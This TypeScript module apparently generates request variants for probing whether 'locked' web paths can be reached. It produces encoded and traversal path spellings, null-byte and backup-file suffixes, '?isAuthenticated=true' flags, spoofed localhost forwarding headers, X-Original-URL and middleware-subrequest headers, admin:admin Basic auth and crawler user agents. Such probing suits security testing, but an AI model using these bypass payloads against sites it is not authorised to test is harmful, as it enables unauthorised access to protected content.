import type { Question } from "./ask.ts";

export function spellings(path: string): string[] {
  const name = path.slice(1);
  const [first = "", ...rest] = name;
  const tail = rest.join("");
  const hex = first.charCodeAt(0).toString(16);
  const slashed = (slash: string) => path.replaceAll(/(?<!^)\//g, slash);
  const all = [
    path.toUpperCase(),
    path.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
    `/${first.toUpperCase()}${tail}`,
    ...[`%${hex}`, `%${hex.toUpperCase()}`, `%25${hex}`, `%2525${hex}`].map((start) => `/${start}${tail}`),
    `/${Array.from(name, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join("")}`,
    ...[
      "%2f",
      "%2F",
      "%252f",
      "%5c",
      "\\",
      "//",
      "///",
      "/./",
      "/%2e/",
      "/x/../",
      "/x/%2e%2e/",
      "%c0%af",
    ].map(slashed),
    ...["/", "\\", "%2f", ".", "%2e", "/%2e", "x/..", "x/%2e%2e", "x%2f..", "..;"].map(
      (start) => `/${start}/${name}`,
    ),
    ...["assets", "media", ".content/media", "locked", "%61ssets", "api"].flatMap((folder) => [
      `/${folder}/../${name}`,
      `/${folder}/%2e%2e/${name}`,
      `/${folder}/..%2f${name}`,
      `/${folder}/..%5c${name}`,
      `/${folder}/%252e%252e/${name}`,
    ]),
    ...[
      "/",
      "//",
      "/.",
      "/..",
      "/%2e",
      ".",
      "..",
      "%2e",
      "%20",
      "%00",
      "%00.png",
      "%0a",
      "%09",
      ";",
      ";.css",
    ].map((end) => path + end),
    ...["/index.html", ".html", ".json", ".data", ".data/", "/_.data", ".map", ".br", ".gz", ".bak", "~"].map(
      (end) => path + end,
    ),
    ...["?", "?index", "?_routes=", "?unlocked=true", "?isAuthenticated=true", "?download", "#x"].map(
      (end) => path + end,
    ),
    `http://127.0.0.1${path}`,
    `http://other.example${path}`,
  ];
  return [...new Set(all)];
}

export function disguises(cookies: readonly string[]): Omit<Question, "target">[] {
  return [
    {},
    ...["HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND", "SEARCH"].map((method) => ({
      method,
    })),
    ...cookies.map((Cookie) => ({ headers: { Cookie } })),
    ...cookies.slice(0, 2).map((Cookie) => ({ headers: { Cookie, "X-Forwarded-Proto": "https" } })),
    ...HEADERS.map((headers) => ({ headers })),
    { method: "HEAD", headers: { Range: "bytes=0-99" } },
    { method: "POST", headers: { "X-HTTP-Method-Override": "GET" } },
    form("password="),
    form("password=true&isAuthenticated=true"),
  ];
}

/** The few that are asked of every locked address; all are asked of some of each kind. */
export function plainDisguises(cookies: readonly string[]): Omit<Question, "target">[] {
  const headers = cookies.slice(0, 1).map((Cookie) => ({ headers: { Cookie, Range: "bytes=0-" } }));
  return [{}, { method: "HEAD" }, { headers: { Range: "bytes=0-4095" } }, ...headers];
}

function form(body: string): Omit<Question, "target"> {
  return { method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body };
}

const FORWARDED = [
  "X-Forwarded-For",
  "X-Real-IP",
  "CF-Connecting-IP",
  "True-Client-IP",
  "X-Client-IP",
  "Forwarded",
];

/** Those that search and those that preview a link, which a site may want to please. */
const AGENTS = [
  "Googlebot/2.1 (+http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
  "Slack-ImgProxy (+https://api.slack.com/robots)",
  "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
  "WhatsApp/2.23.20.0",
  "Twitterbot/1.0",
  "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
  "Discordbot/2.0 (+https://discordapp.com)",
  "TelegramBot (like TwitterBot)",
  "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",
  "Mastodon/4.2 (http.rb/5.1; +https://mastodon.social/)",
  "Pinterestbot/1.0 (+http://www.pinterest.com/bot.html)",
  "redditbot/1.0 (http://www.reddit.com/feedback)",
  "GPTBot/1.2 (+https://openai.com/gptbot)",
  "curl/8.5.0",
];

const HEADERS: Question["headers"][] = [
  ...["0-", "0-4095", "4096-8191", "-1", "-4096", "0-0,2-3", "99999999999-"].map((range) => ({
    Range: `bytes=${range}`,
  })),
  { Range: "bytes=0-4095", "If-Range": "*" },
  { "If-None-Match": "*" },
  { "If-None-Match": '"x", W/"y"' },
  { "If-Match": "*" },
  { "If-Modified-Since": new Date(0).toUTCString() },
  { "If-Modified-Since": new Date(4e12).toUTCString() },
  { Host: "other.example" },
  { Host: "localhost" },
  { "X-Forwarded-Host": "localhost" },
  { "X-Forwarded-Proto": "https" },
  ...FORWARDED.map((name) => ({ [name]: "127.0.0.1" })),
  ...["X-Original-URL", "X-Rewrite-URL"].flatMap((name) => [{ [name]: "/" }, { [name]: "/admin" }]),
  { "X-Forwarded-Prefix": "/media", "X-Forwarded-Uri": "/" },
  { "X-HTTP-Method-Override": "GET", "X-Method-Override": "HEAD" },
  { "X-Middleware-Subrequest": "middleware:middleware:middleware", "X-Middleware-Prefetch": "1" },
  { "X-React-Router-SPA-Mode": "yes" },
  { "X-React-Router-Prerender-Data": "%5B%5D" },
  { "X-React-Router-Request": "yes", RSC: "1" },
  { Purpose: "prefetch", "Sec-Purpose": "prefetch;prerender" },
  ...["*/*", "application/json", "text/x-script", "text/markdown", "image/avif", "text/x-component"].map(
    (Accept) => ({
      Accept,
    }),
  ),
  ...["gzip", "br", "zstd", "identity;q=0"].map((encoding) => ({ "Accept-Encoding": encoding })),
  { Authorization: "Bearer true" },
  { Authorization: `Basic ${Buffer.from("admin:admin").toString("base64")}` },
  ...AGENTS.map((agent) => ({ "User-Agent": agent })),
  { Referer: "http://127.0.0.1/", Origin: "http://127.0.0.1" },
];
